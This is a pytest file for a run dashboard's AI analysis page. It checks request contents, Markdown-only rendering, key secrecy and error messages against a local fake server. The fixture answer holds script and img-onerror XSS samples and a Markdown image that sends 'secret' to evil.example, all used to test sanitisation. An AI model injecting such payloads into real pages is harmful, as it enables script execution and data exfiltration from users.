"""The AI analysis page through AppTest, driving the real `openai` client against an
OpenAI-compatible server on 127.0.0.1: the request carries the run's context and the model, the
streamed answer renders as Markdown without HTML or images, the key never shows, errors are clear."""
from __future__ import annotations

import logging

import pytest

from rundash_core import ai

from helpers import open_page
from helpers.ai_server import ChatServer, dead_base_url

PAGE = "pages/ai_analysis.py"
KEY = "sk-page-SECRET-77c1d0"
ANSWER = ("The run looks **healthy**: reward rises.\n<script>alert(1)</script><img src=x onerror=alert(2)>\n"
          "![leak](http://evil.example/x?d=secret)\nDone.")


@pytest.fixture
def server():
    with ChatServer() as s:
        s.answer = ANSWER
        yield s


def endpoint(monkeypatch, base_url: str | None, *, key: str | None = KEY, model: str | None = "test-model") -> None:
    for name, value in ((ai.ENV_BASE_URL, base_url), (ai.ENV_API_KEY, key), (ai.ENV_MODEL, model)):
        if value is None:
            monkeypatch.delenv(name, raising=False)
        else:
            monkeypatch.setenv(name, value)


def protos(node) -> list[str]:
    """Every element of the page (main and sidebar) as its protobuf text: what the browser gets."""
    out = [str(node.proto)] if getattr(node, "proto", None) is not None else []
    for child in getattr(node, "children", {}).values():
        out += protos(child)
    return out


def run_of(runs, kind: str) -> str:
    return runs[runs["kind"] == kind]["run_id"].iloc[0]


def ask(at):
    at.button(key="ai_ask").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_asks_streams_and_never_shows_the_key(monkeypatch, demo_runs, server, caplog):
    caplog.set_level(logging.DEBUG)
    folder, runs = demo_runs
    endpoint(monkeypatch, server.base_url)
    run_id = run_of(runs, "verl")
    at = open_page(monkeypatch, folder, PAGE, {"run": run_id})
    notice = " ".join(w.value for w in at.warning)
    assert "sends this run's data" in notice and server.base_url in notice  # the data-leaves notice
    context = next(c.value for c in at.code if c.value.startswith("# Run"))
    assert any(e.label.startswith("Context sent to the model · about") and
               f"{ai.estimate_tokens(context):,} tokens" in e.label for e in at.expander)
    ask(at)
    (req,) = server.requests
    assert req["body"]["model"] == "test-model" and req["body"]["stream"] is True
    user = req["body"]["messages"][-1]["content"]
    assert user.startswith(context) and f"- run: {run_id}" in user and "critic/score/mean" in user
    assert user.endswith("Is this run healthy?")
    assert req["headers"]["authorization"] == f"Bearer {KEY}"
    shown = [m for m in at.markdown if "healthy" in m.value and "reward rises" in m.value]
    assert shown, [m.value for m in at.markdown]
    assert all(not m.proto.allow_html for m in at.markdown)  # model output: Markdown, never HTML
    assert "![" not in shown[0].value and not at.get("html")  # no image syntax left, no st.html at all
    everything = "\n".join(protos(at._tree))
    assert KEY not in everything  # in no element, main or sidebar
    assert KEY not in str(dict(at.query_params)) and KEY not in caplog.text
    state = at.session_state.to_dict()
    assert KEY not in repr(state) and KEY not in repr(vars(state["ai_answers"]))  # nor in session state

    at.run()  # a rerun shows the cached answer, no new request
    assert len(server.requests) == 1
    assert any("reward rises" in m.value for m in at.markdown) and any("Cached answer" in c.value for c in at.caption)


def test_preset_questions_and_a_free_one(monkeypatch, demo_runs, server):
    folder, runs = demo_runs
    endpoint(monkeypatch, server.base_url)
    at = open_page(monkeypatch, folder, PAGE, {"run": run_of(runs, "prime-rl")})
    at.radio(key="ai_preset").set_value("drop").run()
    at.number_input(key="ai_step").set_value(42).run()
    ask(at)
    assert server.requests[-1]["body"]["messages"][-1]["content"].endswith("Why did reward drop after step 42?")
    at.radio(key="ai_preset").set_value("compare").run()
    other = at.selectbox(key="ai_other").value
    ask(at)
    user = server.requests[-1]["body"]["messages"][-1]["content"]
    assert "# Run A" in user and "# Run B" in user and f"- run: {other}" in user
    assert user.endswith(f"Compare with run {other}.")
    at.radio(key="ai_preset").set_value("free").run()
    at.text_area(key="ai_free").input("Is the KL under control?").run()
    ask(at)
    assert server.requests[-1]["body"]["messages"][-1]["content"].endswith("Is the KL under control?")


@pytest.mark.parametrize("status,message", [(500, "HTTP 500"), (401, "rejected the API key"),
                                            (429, "rate limiting"), (400, "context is too long")])
def test_endpoint_errors_show_a_clear_message(monkeypatch, demo_runs, server, status, message):
    folder, runs = demo_runs
    server.status = status
    endpoint(monkeypatch, server.base_url)
    at = ask(open_page(monkeypatch, folder, PAGE, {"run": run_of(runs, "relax")}))
    errors = [e.value for e in at.error]
    assert any(message in e for e in errors), errors
    assert KEY not in " ".join(errors) and "Traceback" not in "\n".join(protos(at._tree))


def test_connection_refused(monkeypatch, demo_runs):
    folder, runs = demo_runs
    endpoint(monkeypatch, dead_base_url())
    at = ask(open_page(monkeypatch, folder, PAGE, {"run": run_of(runs, "relax")}))
    assert any("Could not reach the endpoint" in e.value for e in at.error)


def test_off_until_configured_then_the_sidebar_configures_it(monkeypatch, demo_runs, server):
    folder, runs = demo_runs
    endpoint(monkeypatch, None, key=None, model=None)
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    at = open_page(monkeypatch, folder, PAGE, {"run": run_of(runs, "relax")})
    assert any("off until an endpoint is configured" in i.value for i in at.info)
    assert at.button(key="ai_ask").disabled
    key_field = at.text_input(key="ai_key_field")
    assert key_field.proto.type == key_field.proto.PASSWORD  # masked
    at.text_input(key="ai_base_url").input(server.base_url)
    at.text_input(key="ai_model").input("side-model")
    key_field.input("sk-typed-in-sidebar-99")
    at.run()
    assert not at.button(key="ai_ask").disabled
    ask(at)
    req = server.requests[-1]
    assert req["headers"]["authorization"] == "Bearer sk-typed-in-sidebar-99" and req["body"]["model"] == "side-model"
    outside_the_field = [p for p in protos(at._tree) if "ai_key_field" not in p]
    assert not any("sk-typed-in-sidebar-99" in p for p in outside_the_field)


def test_streamlit_secrets_configure_the_endpoint(monkeypatch, demo_runs, server):
    from streamlit.testing.v1 import AppTest

    from helpers import APP

    folder, runs = demo_runs
    endpoint(monkeypatch, None, key=None, model=None)
    monkeypatch.setenv("RUNDASH_DIRS", str(folder))
    at = AppTest.from_file(str(APP), default_timeout=90)
    at.secrets[ai.ENV_BASE_URL] = server.base_url
    at.secrets[ai.ENV_MODEL] = "secret-model"
    at.secrets[ai.ENV_API_KEY] = "sk-from-secrets-31"
    at.query_params["run"] = run_of(runs, "relax")
    at.run()
    at.switch_page(PAGE).run()
    ask(at)
    req = server.requests[-1]
    assert req["body"]["model"] == "secret-model" and req["headers"]["authorization"] == "Bearer sk-from-secrets-31"
    assert not any("sk-from-secrets-31" in p for p in protos(at._tree))
